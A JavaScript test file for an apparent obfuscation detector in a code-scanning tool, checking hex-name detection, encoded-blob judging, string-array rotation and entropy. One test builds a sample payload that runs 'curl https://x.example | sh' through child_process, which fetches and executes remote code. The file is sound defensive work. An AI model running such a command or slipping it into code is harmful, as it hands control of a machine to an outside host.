import { entropy, findHexIdentifiers, judgeBlob } from '../../src/analysis/obfuscation.js'
import { collectFacts } from '../../src/analysis/facts.js'

test('counts obfuscator-style hex names, not hex numbers or a few such names', () => {
  const names = Array.from({ length: 10 }, (_, i) => `_0x${(0x1a2b + i).toString(16)}`)
  expect(findHexIdentifiers(names.join(';'))?.count).toBe(10)
  expect(findHexIdentifiers('var a = 0x1a2b + 0x3c4d; var _0x1 = 1, _0x2 = 2')).toBeNull()
  expect(findHexIdentifiers('foo_0x1a2b bar_0x1a2c')).toBeNull()
})

test('judges long blobs by what they decode to', () => {
  const code = Buffer.from(
    "require('child_process').exec('curl https://x.example | sh');".repeat(4),
  )
  expect(judgeBlob(code.toString('base64'))?.kind).toBe('encoded-code')
  expect(judgeBlob(code.toString('hex'))?.kind).toBe('encoded-code')
  const random = Buffer.from(Array.from({ length: 400 }, (_, i) => (i * 7919 + 13) % 251))
  expect(judgeBlob(random.toString('base64'))?.kind).toBe('high-entropy-string')
  expect(judgeBlob('data:image/png;base64,' + random.toString('base64'))).toBeNull()
  expect(judgeBlob('Send an email to the given recipients. '.repeat(10))).toBeNull()
  expect(judgeBlob('AAAA,SAAS,GAAG,CAAC;'.repeat(20))).toBeNull()
  expect(judgeBlob('short')).toBeNull()
})

test('finds the string-array rotation', () => {
  const facts = collectFacts(
    'o.js',
    "(function (a, n) { while (--n) { a['push'](a['shift']()) } })(arr, 0x1a3)",
  )
  expect(facts.obfuscation.map((o) => o.kind)).toEqual(['string-array-rotation'])
  expect(collectFacts('p.js', 'queue.push(other.shift())').obfuscation).toEqual([])
})

test('entropy', () => {
  expect(entropy('aaaa')).toBe(0)
  expect(entropy('abcd')).toBe(2)
})

// Their time, at n and 2n: npm run bench:hostile.
test('megabytes of adversarial text give bounded answers', () => {
  expect(findHexIdentifiers('_0x'.repeat(1_000_000))).toBeNull()
  expect(judgeBlob('A'.repeat(2_000_000))).toBeNull()
  expect(judgeBlob('!'.repeat(2_000_000))).toBeNull()
})
